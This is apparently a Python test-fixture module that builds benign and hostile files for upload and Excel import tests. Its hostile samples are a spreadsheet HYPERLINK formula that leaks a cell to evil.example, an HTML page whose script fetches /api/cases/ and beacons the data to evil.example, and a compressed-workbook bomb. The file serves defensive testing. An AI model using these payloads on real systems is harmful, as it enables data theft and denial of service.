"""Hostile and honest files for the upload and Excel tests, built in memory in milliseconds."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

from docx import Document
from openpyxl import Workbook

MB = 1024 * 1024
EVIL_TITLE = '=HYPERLINK("http://evil.example/?x="&A3,"点击查看详情")'
HTML_PAGE = (b"<!DOCTYPE html><html><head><meta charset='utf-8'></head><body>"
             b"<script>fetch('/api/cases/').then(r=>r.text()).then(t=>navigator.sendBeacon("
             b"'http://evil.example/',t))</script></body></html>")
SHEET = "xl/worksheets/sheet1.xml"
SHEET_HEAD = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
              b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
              b'<sheetData>')
SHEET_TAIL = b"</sheetData></worksheet>"


def tiny_pdf() -> bytes:
    """A real one-page PDF (catalog, pages, page, a correct xref table)."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>",
               b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def tiny_png() -> bytes:
    """A real 1x1 white PNG."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return (struct.pack(">I", len(data)) + kind + data
                + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\x00\xff\xff\xff")) + chunk(b"IEND", b""))


TINY_JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"
OLE2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504  # an old .doc/.xls container


def docx_bytes() -> bytes:
    buf = io.BytesIO()
    doc = Document()
    doc.add_paragraph("关于加快老旧小区加装电梯的建议的答复")
    doc.save(buf)
    return buf.getvalue()


def xlsx_bytes(rows: list[list] | None = None) -> bytes:
    wb = Workbook()
    for row in rows or [["案号", "标题"], ["第0001号", "关于加装电梯的建议"]]:
        wb.active.append(row)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def ofd_bytes() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("OFD.xml", '<?xml version="1.0" encoding="UTF-8"?><ofd:OFD '
                    'xmlns:ofd="http://www.ofdspec.org/2016" Version="1.0" DocType="OFD"/>')
        zf.writestr("Doc_0/Document.xml", "<ofd:Document/>")
    return buf.getvalue()


def replace_sheet(data: bytes, write_sheet, *, compresslevel: int = 9) -> bytes:
    """The workbook `data` with its first sheet's XML written by `write_sheet(fh)` instead."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, \
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=compresslevel) as dst:
        for info in src.infolist():
            if info.filename == SHEET:
                with dst.open(SHEET, "w", force_zip64=True) as fh:
                    write_sheet(fh)
            else:
                dst.writestr(info, src.read(info))
    return out.getvalue()


def xlsx_bomb(unpacked_mb: int = 200) -> bytes:
    """A valid workbook (the header 案号/标题, then one row) whose sheet XML is `unpacked_mb` MB
    of repeated empty cells: about 1000:1, so 200 MB packs into about 200 KB."""
    run = b"<c/>" * (MB // 4)

    def write(fh) -> None:
        fh.write(SHEET_HEAD + b'<row r="1"><c t="inlineStr"><is><t>\xe6\xa1\x88\xe5\x8f\xb7'
                 b'</t></is></c><c t="inlineStr"><is><t>\xe6\xa0\x87\xe9\xa2\x98</t></is></c>'
                 b'</row><row r="2">')
        for _ in range(unpacked_mb):
            fh.write(run)
        fh.write(b"</row>" + SHEET_TAIL)

    return replace_sheet(xlsx_bytes(), write)


def with_cached_value(data: bytes, cell: str, cached: str) -> bytes:
    """Give the formula in `cell` the result Excel would have cached for it (openpyxl writes
    none), as in a workbook saved by Excel or WPS."""
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        xml = zf.read(SHEET).decode()
    start = xml.index(f'<c r="{cell}"')
    end = xml.index("</c>", start) + len("</c>")
    formula = xml[xml.index("<f>", start):xml.index("</f>", start) + len("</f>")]
    patched = xml[:start] + f'<c r="{cell}" t="str">{formula}<v>{cached}</v></c>' + xml[end:]
    return replace_sheet(data, lambda fh: fh.write(patched.encode()), compresslevel=6)


class CountingFile(io.RawIOBase):
    """A file that counts the bytes read from it (and pretends to be `size` long)."""

    def __init__(self, inner, size: int | None = None) -> None:
        self.inner = inner
        self.bytes_read = 0
        self.size = size

    def readable(self) -> bool:
        return True

    def seekable(self) -> bool:
        return True

    def read(self, n: int = -1) -> bytes:
        data = self.inner.read(n)
        self.bytes_read += len(data)
        return data

    def readinto(self, b) -> int:
        data = self.read(len(b))
        b[:len(data)] = data
        return len(data)

    def seek(self, offset: int, whence: int = io.SEEK_SET) -> int:
        return self.inner.seek(offset, whence)

    def tell(self) -> int:
        return self.inner.tell()
